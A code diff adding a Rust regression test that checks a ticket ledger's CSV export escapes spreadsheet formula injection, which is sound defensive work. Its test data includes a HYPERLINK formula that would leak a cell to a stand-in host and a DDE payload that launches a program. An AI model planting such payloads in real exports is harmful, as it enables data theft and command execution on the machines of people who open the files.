@@ -987,6 +987,72 @@ storage_test!(the_csv_export, |b| async move {
     assert_eq!(bytes.len(), 3 + rows[0].len());
 });
 
+storage_test!(
+    the_csv_export_never_hands_a_spreadsheet_a_formula,
+    |b| async move {
+        let l = TestLedger::start(b).await;
+        // Summaries a spreadsheet would run: formulas, a DDE command, their full-width forms.
+        let hostile = [
+            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击查看\")",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1+1",
+            "-1+1, 倾倒",
+            "\t=1+1",
+            "＝1+1",
+        ];
+        for summary in hostile {
+            open_dumping(&l, summary).await;
+        }
+        let (status, _, bytes) = get_raw(&l, "/v1/tickets.csv").await;
+        assert_eq!(status, StatusCode::OK);
+        let rows = csv_cells(&bytes);
+        assert_eq!(rows.len(), 1 + hostile.len());
+        for row in &rows {
+            for cell in row {
+                let first = cell.chars().next();
+                let number = cell.parse::<f64>().is_ok();
+                assert!(
+                    number
+                        || !matches!(
+                            first,
+                            Some('=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠')
+                        ),
+                    "a spreadsheet would run the cell {cell:?}"
+                );
+            }
+        }
+        // The text is all there, behind the apostrophe that makes it text.
+        let summaries: Vec<&str> = rows[1..].iter().map(|r| r[4].as_str()).collect();
+        for summary in hostile {
+            assert!(
+                summaries.contains(&format!("'{summary}").as_str()),
+                "{summary:?} in {summaries:?}"
+            );
+        }
+        // Numbers stay numbers: the quantity column.
+        assert!(
+            rows[1..].iter().all(|r| r[7].parse::<i64>().is_ok()),
+            "{rows:?}"
+        );
+    }
+);
+
+/// The cells of a CSV export as Python's csv module reads them (a spreadsheet program's view).
+fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
+    use std::io::Write;
+    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/tools/csv_cells.py");
+    let mut child = std::process::Command::new("python3")
+        .arg(script)
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .expect("python3 reads the CSV");
+    child.stdin.take().unwrap().write_all(bytes).unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert!(out.status.success(), "the CSV reader failed");
+    serde_json::from_slice(&out.stdout).expect("rows as JSON")
+}
+
 storage_test!(verify_catches_altered_ticket_tables, |b| async move {
     let mut l = TestLedger::start(b).await;
     let id = open_dumping(&l, "倾倒").await;
